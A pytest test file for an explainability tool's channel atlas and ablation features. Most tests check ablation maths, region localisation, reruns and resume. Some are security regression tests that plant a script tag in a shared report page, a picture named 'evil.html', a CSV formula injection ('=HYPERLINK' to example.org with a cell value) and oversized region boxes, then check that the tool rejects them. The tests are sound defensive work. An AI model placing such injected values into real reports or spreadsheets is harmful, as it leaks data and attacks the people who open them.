"""Channels across a run (channels.atlas, channels.ablation): bad settings are one line; the
ablated pass from the channel layer equals a full pass with the channels zeroed; on a labelled
folder of the demo photos the atlas page loads with every picture, the top dog channels'
regions lie on the dog, fingerprints, overlaps and the right/wrong split are recorded, and
zeroing the top GradCAM channels lowers the logit more than random ones; the state is
order-free (torchrun ranks merge to one process's bytes), reruns are byte-identical and
--resume continues the heaps and sums."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import cv2
import numpy as np
import pytest
import torch
import yaml
from torch import nn

from conftest import IMAGES
from helpers import cli, interrupted, refused, tiny_net
from explain.channels.ablation import Ablator, Rows
from explain.channels.atlas import AtlasState, ImageAtlas, unzip
from explain.config import load_config
from explain.engine import LayerInfo
from explain.models.heads import Classifier, Head
from explain.models.layouts import Layout
from explain.results import RunSummary
from explain.runner import RunOptions, run

QUIET = dict(progress=False, log=lambda _: None)
# The dog in images/dog.jpg (768 x 576) and in images/both.jpg (448 x 224), x0, y0, x1, y1.
DOG = {"dog": (130, 220, 310, 540), "both": (235, 84, 311, 212)}


@pytest.fixture(scope="module", autouse=True)
def one_thread():
    """One torch thread for this file's runs: on a busy machine two threads wait on each other
    (a forward pass 20x slower); the numbers do not depend on it."""
    before = torch.get_num_threads()
    torch.set_num_threads(1)
    yield
    torch.set_num_threads(before)


# ---- bad settings: one line, exit 2 -----------------------------------------------------------

@pytest.fixture(scope="module")
def tiny(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("tiny")
    torch.save(tiny_net(convs=2), folder / "net.pth")
    return folder


def tiny_yaml(folder: Path, net: Path, name: str = "exp", **channels) -> Path:
    """A config of the tiny net ``net`` (layer '2': a conv of 6 channels, 16 x 16 maps), the cat
    photo, gradcam and layercam, atlas and ablation on (``channels`` keys replace these)."""
    spec = {"enabled": True, "grids": False, "top_k": 2,
            "atlas": {"enabled": True, "top_n": 3, "channels": 3},
            "ablation": {"enabled": True, "k": [1, 2], "draws": 2}, **channels}
    data = {"model": {"file": str(net)}, "classes": {"cat": 0, "dog": 1},
            "images": [str(IMAGES / "cat.jpg")], "preprocess": {"size": [16, 16]},
            "target_layers": ["2"], "methods": ["gradcam", "layercam"], "channels": spec,
            "metrics": [], "output": {"dir": str(folder / "results")}}  # no ROAD by default
    path = folder / f"{name}.yaml"
    path.write_text(yaml.safe_dump(data))
    return path


@pytest.mark.parametrize("channels, needles", [
    ({"atlas": {"enabled": True, "top_n": 0}}, ["channels.atlas.top_n", "greater than or equal to 1"]),
    ({"atlas": {"enabled": True, "top_n": 65}}, ["channels.atlas.top_n", "less than or equal to 64"]),
    ({"ablation": {"enabled": True, "k": [0, 4]}}, ["channels.ablation.k[0]"]),
    ({"ablation": {"enabled": True, "k": [2, 2]}}, ["channels.ablation.k", "2 is listed twice"]),
    ({"ablation": {"enabled": True, "k": [1, 7]}},
     ["channels.ablation.k: 7 is more than the 6 channels of the channel layer '2'"]),
    ({"layer": "4"}, ["channels.atlas: the channel layer '4' has no spatial map (6 channels of "
                      "1 x 1)"]),
    ({"enabled": False}, ["channels.atlas and channels.ablation use the channel layer: set "
                          "channels.enabled: true"]),
])
def test_bad_settings_are_one_line(tiny, capsys, channels, needles):
    path = tiny_yaml(tiny, tiny / "net.pth", "bad", **channels)
    refused(capsys, path, "--quiet", needles=needles)
    assert not (tiny / "results").exists()  # stopped before a folder was claimed


# ---- the ablated pass -----------------------------------------------------------------------

class Skipped(nn.Module):
    """A conv, then a block whose output adds its input back: ablating the block's first conv
    does not go 'from the layer on' (the skip reads the layer before it)."""

    def __init__(self):
        super().__init__()
        torch.manual_seed(1)
        self.stem = nn.Conv2d(3, 5, 3, padding=1)
        self.inner = nn.Conv2d(5, 5, 3, padding=1)
        self.head = nn.Linear(5, 2)

    def forward(self, x):
        y = torch.relu(self.stem(x))
        y = torch.relu(self.inner(y)) + y
        return self.head(y.mean(dim=(2, 3)))


def zeroed_by_hand(model: nn.Module, layer: nn.Module, x: torch.Tensor, rows: Rows) -> np.ndarray:
    """The plain forward of each row's image with its channels set to zero at ``layer``."""
    out = []
    for b, chosen in zip(rows.images, rows.zeroed):
        def zero(_m, _in, output, chosen=chosen):
            output = output.clone()
            output[:, torch.as_tensor(chosen, dtype=torch.long)] = 0
            return output
        handle = layer.register_forward_hook(zero)
        try:
            with torch.no_grad():
                out.append(model(x[b:b + 1]).double().numpy()[0])
        finally:
            handle.remove()
    return np.stack(out)


def ablated(model: nn.Module, name: str, x: torch.Tensor, modes: set[str]) -> None:
    """The Ablator's scores of random ablations against ``zeroed_by_hand``, to 1e-5; it must
    have run in one of ``modes``."""
    net = Classifier(model)
    layer = dict(model.named_modules())[name]
    captured = {}
    handle = layer.register_forward_hook(lambda _m, _i, out: captured.__setitem__("a", out))
    with torch.no_grad():
        logits = net(x).double().numpy()
    handle.remove()
    acts = captured["a"].numpy()
    rng = np.random.default_rng(0)
    rows = Rows(np.arange(12) % len(x), [rng.choice(acts.shape[1], 1 + i % 3, replace=False)
                                         for i in range(12)])
    info = LayerInfo("channels.layer", layer, acts.shape[1:], Layout("nchw"), name)
    ablator = Ablator(net, info, Head(), torch.device("cpu"))
    base, scores = ablator.scores(x, acts, rows, logits)
    assert ablator.used <= modes and ablator.used, ablator.used
    assert np.abs(base - logits).max() < 1e-5
    assert np.abs(scores - zeroed_by_hand(net, layer, x, rows)).max() < 1e-5
    assert np.abs(scores - logits[rows.images]).max() > 1e-3  # the zeros changed something
    assert all("forward" not in m.__dict__ for m in model.modules())  # put back


def test_ablated_pass_from_the_layer_equals_a_full_pass_with_channels_zeroed(demo_model):
    torch.manual_seed(0)
    ablated(tiny_net(convs=2), "2", torch.randn(3, 3, 16, 16), {"split"})
    ablated(Skipped(), "inner", torch.randn(2, 3, 12, 12), {"full"})
    x = torch.randn(2, 3, 64, 96)
    ablated(demo_model, "backbone._blocks.15", x, {"skip"})


# ---- a labelled folder of the demo photos --------------------------------------------------

def _flip(box: tuple, width: int) -> tuple:
    return (width - box[2], box[1], width - box[0], box[3])


def demo_tree(root: Path) -> dict[str, tuple]:
    """pics/<label>/<image>.jpg from images/: cat, dog and both, flipped and shifted (cut on
    the left); both.jpg is labelled cat and its mirror image dog, which the model gets wrong
    (it says dog for both.jpg, cat for the mirror). Returns each image's dog box (or None) and
    its size."""
    cat, dog, both = (cv2.imread(str(IMAGES / f"{n}.jpg")) for n in ("cat", "dog", "both"))
    shifted = tuple(v - 96 * (i % 2 == 0) for i, v in enumerate(DOG["dog"]))
    made = {("cat", "cat"): (cat, None), ("cat", "cat_flip"): (cat[:, ::-1], None),
            ("cat", "cat_shift"): (cat[:, 80:], None), ("dog", "dog"): (dog, DOG["dog"]),
            ("dog", "dog_flip"): (dog[:, ::-1], _flip(DOG["dog"], 768)),
            ("dog", "dog_shift"): (dog[:, 96:], shifted), ("cat", "both"): (both, DOG["both"]),
            ("dog", "both_flip"): (both[:, ::-1], _flip(DOG["both"], 448))}
    boxes = {}
    for (label, name), (img, box) in made.items():
        (root / "pics" / label).mkdir(parents=True, exist_ok=True)
        cv2.imwrite(str(root / "pics" / label / f"{name}.jpg"), img)
        boxes[name] = (box, img.shape[:2])
    return boxes


@pytest.fixture(scope="module")
def demo_run(tmp_path_factory):
    """The demo network and layer on the labelled tree, gradcam and layercam, atlas (top 4
    regions) and ablation (k = 1, 4, 16) on."""
    root = tmp_path_factory.mktemp("demo_atlas")
    boxes = demo_tree(root)
    data = {"model": {"builder": "explain.demo:catdog_efficientnet_lite0"},
            "classes": {"cat": 0, "dog": 1}, "images": [{"labelled": str(root / "pics")}],
            "target_layers": ["backbone._blocks.15"], "methods": ["gradcam", "layercam"],
            "channels": {"enabled": True, "grids": False,
                         "atlas": {"enabled": True, "top_n": 4}, "ablation": {"enabled": True}},
            "metrics": [], "output": {"dir": str(root / "results")}}
    (root / "exp.yaml").write_text(yaml.safe_dump(data))
    summary = run(load_config(root / "exp.yaml"), RunOptions(**QUIET))
    return summary, root / "results" / "exp", boxes


def dog_share(summary: RunSummary, run_dir: Path, boxes: dict, method: str,
              ranking: str) -> tuple[float, float]:
    """Of the regions of the dog fingerprint's 8 top channels (``method``) in ``ranking``: the
    fraction whose peak cell's centre lies in the dog's box (grown by half a cell, 16 px at
    stride 32), and that fraction by chance (the grown box's share of each region's image)."""
    fp = next(f for f in summary.atlas.fingerprints
              if (f.class_name, f.method) == ("dog", method))
    top = {c.channel for c in fp.channels[:8]}
    sizes = {e.id: e.input_size for e in summary.images}
    inside, chance, n = 0, 0.0, 0
    with open(run_dir / summary.atlas.files.regions_csv) as f:
        for r in csv.DictReader(f):
            if int(r["channel"]) not in top or r["ranking"] != ranking:
                continue
            n += 1
            box, (h, w) = boxes[r["image"]]
            if box is None:
                continue
            (H, W), m = sizes[r["image"]], 16
            x0, y0, x1, y1 = box[0] * W / w - m, box[1] * H / h - m, box[2] * W / w + m, \
                box[3] * H / h + m
            cx = (int(r["cell_x0"]) + int(r["cell_x1"])) / 2
            cy = (int(r["cell_y0"]) + int(r["cell_y1"])) / 2
            inside += x0 <= cx <= x1 and y0 <= cy <= y1
            chance += (min(x1, W) - max(x0, 0)) * (min(y1, H) - max(y0, 0)) / (H * W)
    return inside / n, chance / n


def test_the_top_dog_channels_regions_lie_on_the_dog(demo_run):
    summary, run_dir, boxes = demo_run
    # The dog covers about 20% of its images (box grown by half a cell): a channel blind to
    # it would put about that share of its regions there. LayerCAM's top dog channels put
    # 28 of 32 contribution regions (0.875) on the dog; GradCAM's, whose per-channel term
    # peaks where the channel is most active wherever that is, 17 of 32 (0.53).
    share, chance = dog_share(summary, run_dir, boxes, "layercam", "layercam:dog")
    assert 0.15 < chance < 0.3 and share >= 0.75, (share, chance)
    share, chance = dog_share(summary, run_dir, boxes, "gradcam", "gradcam:dog")
    assert share >= 2 * chance and share > 0.5, (share, chance)
    share, chance = dog_share(summary, run_dir, boxes, "layercam", "activation")
    assert share >= 0.75, (share, chance)


def test_fingerprints_overlaps_and_the_right_wrong_split_are_recorded(demo_run):
    summary, run_dir, _ = demo_run
    data = json.loads((run_dir / "summary.json").read_text())
    atlas = data["atlas"]
    assert (atlas["layer"], atlas["channels"], atlas["images"]) == ("backbone._blocks.15", 320, 8)
    prints = {(f["class"], f["method"]): f for f in atlas["fingerprints"]}
    assert set(prints) == {(c, m) for c in ("cat", "dog") for m in ("gradcam", "layercam")}
    for (cls, method), fp in prints.items():
        # both.jpg (label cat, said dog) and its mirror (label dog, said cat) are wrong
        assert (fp["maps"], fp["correct"], fp["wrong"]) == (5, 3, 1), fp
        assert fp["weak"] == 3  # the other class's photos: p < 0.05, left out
        shares = [c["share"] for c in fp["channels"]]
        assert len(shares) == 16 and shares == sorted(shares, reverse=True)
        assert all(c["low"] <= c["share"] <= c["high"] for c in fp["channels"])
        assert fp["wrong_channels"] and all(c["share_wrong"] is not None
                                            for c in fp["wrong_channels"])
        with open(run_dir / fp["table"]) as f:
            rows = list(csv.DictReader(f))
        assert len(rows) == 320 and [int(r["channel"]) for r in rows[:16]] == \
            [c["channel"] for c in fp["channels"]]
        assert float(rows[0]["mean_share"]) == fp["channels"][0]["share"]
    for overlap in atlas["overlaps"]:
        a, b = (prints[(c, overlap["method"])] for c in overlap["classes"])
        both = {c["channel"] for c in a["channels"]} & {c["channel"] for c in b["channels"]}
        assert set(overlap["shared"]) == both
        assert overlap["jaccard"] == round(len(both) / (32 - len(both)), 6)
    assert [o["classes"] for o in atlas["overlaps"]] == [["cat", "dog"]] * 2
    # every file the atlas wrote is recorded, and every recorded file is there
    written = set(RunSummary.model_validate(data).written())
    mine = {p.relative_to(run_dir).as_posix() for folder in ("channels/atlas", "channels/ablation")
            for p in (run_dir / folder).rglob("*") if p.is_file()}
    assert mine and mine <= written and "report/atlas.html" in written
    assert all((run_dir / f).is_file() for f in written)


def test_zeroing_the_top_gradcam_channels_lowers_the_logit_more_than_random(demo_run):
    summary, run_dir, _ = demo_run
    ablation = json.loads((run_dir / "summary.json").read_text())["ablation"]
    assert ablation["score"] == "logit" and ablation["forward"] == "skip"
    for method in ("gradcam", "layercam"):
        found = ablation["methods"][method]
        assert not found["marked"]
        for k in ("1", "4", "16"):
            point = found["k"][k]
            assert point["maps"] == 16 and point["top"] > point["random"] > point["bottom"]
            assert point["gap_low"] > 0
    k16 = ablation["methods"]["gradcam"]["k"]["16"]
    assert k16["top"] > 1.0 and k16["random"] < 0.5, k16  # README: 1.73 against 0.26


def test_the_atlas_page_loads_every_picture(demo_run):
    from browser import Browser, check_page, find_browser
    summary, run_dir, _ = demo_run
    page = run_dir / summary.files.atlas_page
    html = page.read_text()
    for fp in summary.atlas.fingerprints:
        assert f'id="fp-{fp.method}-{fp.class_name}"' in html
        assert f"{fp.correct} right, {fp.wrong} wrong" in html
    assert "Overlaps" in html and "Channel ablation" in html
    assert 'href="report/atlas.html"' in (run_dir / "report.html").read_text()
    executable = find_browser()
    if executable is None:
        pytest.skip("no Chromium-family browser")
    with Browser(executable) as browser:
        browser.open_page()
        found = check_page(browser, page)
    pictures = {c.picture for fp in summary.atlas.fingerprints for c in fp.channels}
    assert found["count"] >= len(pictures) + 2 and not found["broken"], found
    assert not found["errors"], found["errors"]


def test_a_rebuilt_report_writes_the_atlas_page_again_and_links_only_its_own(demo_run,
                                                                                tmp_path):
    """explain report never wrote report/atlas.html again: a shared folder's page there (a
    script) was linked. Now it is made again from the records, whose names must be the run's;
    a picture named otherwise (evil.html) leaves the page unlinked, with a note."""
    import json
    import shutil

    from explain.writers.report import rebuild
    summary, run_dir, _ = demo_run
    copy = tmp_path / "copy"
    shutil.copytree(run_dir, copy)
    honest = (copy / "report" / "atlas.html").read_text()
    (copy / "report" / "atlas.html").write_text("<script>alert('shared')</script>")
    rebuild(copy)
    assert (copy / "report" / "atlas.html").read_text() == honest
    assert 'href="report/atlas.html"' in (copy / "report.html").read_text()
    data = json.loads((copy / "summary.json").read_text())
    data["atlas"]["fingerprints"][0]["channels"][0]["picture"] = "evil.html"
    (copy / "summary.json").write_text(json.dumps(data))
    (copy / "report" / "atlas.html").write_text("<script>alert('shared')</script>")
    rebuild(copy)
    from html import unescape
    page = (copy / "report.html").read_text()
    assert 'href="report/atlas.html"' not in page
    assert "'evil.html' (the channel atlas page, not linked)" in unescape(page)
    assert "alert" in (copy / "report" / "atlas.html").read_text()  # not written, not linked


# ---- at scale: order-free state, reruns, torchrun merge, --resume -----------------------------

COUNT = 10


@pytest.fixture(scope="module")
def small(tmp_path_factory) -> Path:
    """A labelled tree of COUNT photos (the repository's, mirrored and cut), the tiny net, a
    config (batch_size 2) and results/exp: the run made in one go."""
    root = tmp_path_factory.mktemp("atlas_small")
    for i in range(COUNT):
        img = cv2.imread(str(IMAGES / ("cat.jpg", "dog.jpg", "both.jpg")[i % 3]))
        img = img[:, ::-1] if i % 2 else img[:, 10 * i:]
        label = root / "pics" / ("cat" if i < COUNT // 2 else "dog")
        label.mkdir(parents=True, exist_ok=True)
        cv2.imwrite(str(label / f"p{i:02d}.jpg"), img)
    torch.save(tiny_net(convs=2), root / "net.pth")
    path = tiny_yaml(root, root / "net.pth")
    data = yaml.safe_load(path.read_text())
    data.update(images=[{"labelled": str(root / "pics")}], batch_size=2)
    path.write_text(yaml.safe_dump(data))
    run(load_config(path), RunOptions(**QUIET))
    return root


def atlas_files(run_dir: Path) -> dict[str, bytes]:
    """The atlas's and the ablation's files and page, by path."""
    found = {p.relative_to(run_dir).as_posix(): p.read_bytes()
             for folder in ("channels/atlas", "channels/ablation")
             for p in (run_dir / folder).rglob("*") if p.is_file()}
    found["report/atlas.html"] = (run_dir / "report" / "atlas.html").read_bytes()
    return found


def parts(run_dir: Path) -> list[ImageAtlas]:
    return [ImageAtlas.from_bytes(p.read_bytes(), str(p))
            for p in sorted((run_dir / "channels/atlas/images").glob("*.npz"))]


def fresh_state(like: AtlasState) -> AtlasState:
    return like.empty()


def read_state(data: bytes) -> AtlasState:
    """A saved state read into the settings its own header names (an honest file: a run
    reads it only into its own settings)."""
    header, _ = unzip(data)
    like = AtlasState(header["channels"], header["n"], top_k=header["top_k"],
                      crop=header["crop"], seed=header["seed"], ks=header["ks"],
                      boot=header["boot"])
    named = [*header["contribution"], *header["shares"], *header["weak"]]
    return AtlasState.from_bytes(data, "state.zip", like, classes={n[0] for n in named},
                                 methods={n[1] for n in named} | {m for m, _ in header["ablation"]})


def test_a_rerun_writes_the_same_bytes_and_ranks_merge_to_one_process_state(small):
    reference = atlas_files(small / "results" / "exp")
    assert len([f for f in reference if f.startswith("channels/atlas/images/")]) == COUNT
    run(load_config(small / "exp.yaml"), RunOptions(out_root=small / "again", **QUIET))
    assert atlas_files(small / "again" / "exp") == reference
    saved = reference["channels/atlas/state.zip"]
    state = read_state(saved)
    assert len(state.covered) == COUNT and state.to_bytes() == saved
    found = parts(small / "results" / "exp")
    whole = fresh_state(state)
    for part in found[::-1]:  # any order, one at a time: the same bytes
        whole.add([part])
    assert whole.to_bytes() == saved
    # torchrun: each rank its share (in batches), rank 0 merges what the others hand in
    from explain.distributed import Ranks, drop_kept
    from explain.writers.atlas import AtlasWriter
    ranks = [AtlasWriter(), AtlasWriter()]
    for r, writer in enumerate(ranks):
        writer.atlas = fresh_state(state)
        mine = found[r::2]
        writer.atlas.add(mine[:2])
        writer.atlas.add(mine[2:])
    ranks[0].merge(ranks[1].state())
    assert ranks[0].atlas.to_bytes() == saved
    drop_kept(Ranks(rank=1, world=2), [ranks[1]])  # a rank but 0 forgets what it read back
    assert not ranks[1].atlas.covered and not ranks[1].atlas.shares


# A real two-process torchrun run with the atlas on: tests/test_torchrun.py's run config has it,
# and its test_two_processes_write_what_one_process_writes compares every file.


def test_resume_continues_the_heaps_and_sums(small):
    path, reference = small / "exp.yaml", atlas_files(small / "results" / "exp")
    # between batches: the state saved before batch 3 covers the kept images exactly
    run_dir = interrupted(path, small / "batch", "batch", 3)
    assert len(list((run_dir / "items").glob("*.json"))) == 4
    kept = read_state((run_dir / "channels/atlas/state.zip").read_bytes())
    assert len(kept.covered) in (2, 4)  # the save of batch 3's start may be cut too
    resumed = run(load_config(path), RunOptions(out_root=small / "batch", resume=True, **QUIET))
    assert atlas_files(run_dir) == reference
    assert not any(n.startswith("channels.atlas:") for n in resumed.notes)  # the state used
    # in batch 3's item files: one image of it is kept and comes back from its part
    run_dir = interrupted(path, small / "item", "item", 6)
    assert len(list((run_dir / "items").glob("*.json"))) == 5
    summary = run(load_config(path), RunOptions(out_root=small / "item", resume=True, **QUIET))
    state = read_state((run_dir / "channels/atlas/state.zip").read_bytes())
    rebuilt = fresh_state(state)
    rebuilt.add(parts(run_dir))
    assert len(state.covered) == COUNT and state.to_bytes() == rebuilt.to_bytes()
    assert summary.atlas.images == COUNT and not any("not in the atlas" in n for n in summary.notes)
    # a saved state that covers an image whose item file is gone is not used: the atlas is
    # rebuilt from the kept images' parts
    (run_dir / "items" / "p09.json").unlink()
    (run_dir / "summary.json").unlink()
    run(load_config(path), RunOptions(out_root=small / "item", resume=True, **QUIET))
    again = read_state((run_dir / "channels/atlas/state.zip").read_bytes())
    rebuilt = fresh_state(state)
    rebuilt.add(parts(run_dir))
    assert again.to_bytes() == rebuilt.to_bytes() and len(again.covered) == COUNT


def test_a_run_of_many_classes_keeps_means_without_intervals():
    """Over BOOT_CLASSES classes the writer keeps no bootstrap (8 bytes x 200 x channels per
    class x method): the fingerprints have means and no interval, and the state round-trips."""
    from explain.channels.atlas import BOOT_CLASSES, MapAtlas
    from explain.channels.fingerprints import fingerprint
    rng = np.random.default_rng(0)
    states = {boot: AtlasState(6, 2, top_k=2, crop=1, seed=0, boot=boot) for boot in (True, False)}
    for i in range(5):
        totals = rng.normal(size=6) + np.arange(6)
        part = ImageAtlas(f"p{i}", (32, 32), (4, 4), rng.random(6), np.zeros(6, np.int32),
                          [MapAtlas("cat", "gradcam", None, totals, np.zeros(6, np.int32))])
        for state in states.values():
            state.add([part])
    kept, lean = states[True], states[False]
    assert lean.shares[("cat", "gradcam", "all")].boot is None
    assert lean.to_bytes() != kept.to_bytes()
    assert read_state(lean.to_bytes()).to_bytes() == lean.to_bytes()
    full, bare = (fingerprint(s, "cat", "gradcam", size=3, table="t.csv") for s in (kept, lean))
    assert [c.channel for c in bare.channels] == [c.channel for c in full.channels] == [5, 4, 3]
    assert [c.share for c in bare.channels] == [c.share for c in full.channels]
    assert all(c.low is None and c.high is None for c in bare.channels)
    assert all(c.low <= c.share <= c.high for c in full.channels)
    assert BOOT_CLASSES == 20


def test_a_shared_state_of_made_up_regions_and_names_is_rebuilt_from_the_parts(small):
    """The ninth attack: --resume took a shared state.zip's region boxes (20,000 px a side:
    1.1 GiB a crop) and image names (a formula in regions.csv; 20,000 characters fitted to a
    caption one character at a time) as they were. Such a state is not used: a note says
    why, and the atlas is the one the kept images' parts make, byte for byte (each of the
    checks alone: tests/test_attack9.py)."""
    import io
    import zipfile
    path, reference = small / "exp.yaml", atlas_files(small / "results" / "exp")
    run_dir = interrupted(path, small / "shared", "batch", 3)
    state = run_dir / "channels/atlas/state.zip"
    with zipfile.ZipFile(state) as z:
        members = {n: z.read(n) for n in z.namelist()}
    header = json.loads(members["header.json"])
    key, _ = header["names"][0]
    header["names"][0] = [key, '=HYPERLINK("https://example.org/?"&A2)']
    members["header.json"] = json.dumps(header).encode()
    boxes = np.load(io.BytesIO(members["a.boxes.npy"]))
    boxes[..., 2:4] = 20_000
    buf = io.BytesIO()
    np.save(buf, boxes)
    members["a.boxes.npy"] = buf.getvalue()
    with zipfile.ZipFile(state, "w") as z:
        for n, data in members.items():
            z.writestr(n, data)
    summary = run(load_config(path), RunOptions(out_root=small / "shared", resume=True, **QUIET))
    assert any(n.startswith(f"channels.atlas: {state}: not an atlas state")
               and n.endswith("the atlas is rebuilt from the kept images' parts")
               for n in summary.notes), summary.notes
    assert atlas_files(run_dir) == reference


def test_a_part_of_made_up_maps_stops_the_resume_in_one_line(small, capsys):
    """A kept image's part naming a class the run does not explain (its maps became
    contribution tables of that name) is damage: one line naming the part."""
    from explain.channels.atlas import zip_bytes
    path = small / "exp.yaml"
    run_dir = interrupted(path, small / "part", "batch", 3)
    (run_dir / "channels/atlas/state.zip").unlink()  # every kept image from its part
    part = sorted((run_dir / "channels/atlas/images").iterdir())[0]
    header, arrays = unzip(part.read_bytes())
    header["maps"][0][0] = "m0"
    part.write_bytes(zip_bytes(header, arrays))
    code, err, _ = cli(capsys, path, "--resume", "--out", small / "part", "--quiet")
    assert code == 2 and err.strip().splitlines()[-1] == (
        f"explain: error: {part}: a map of 'm0' by 'gradcam', not a class and method of this "
        f"run; the run folder is damaged"), err
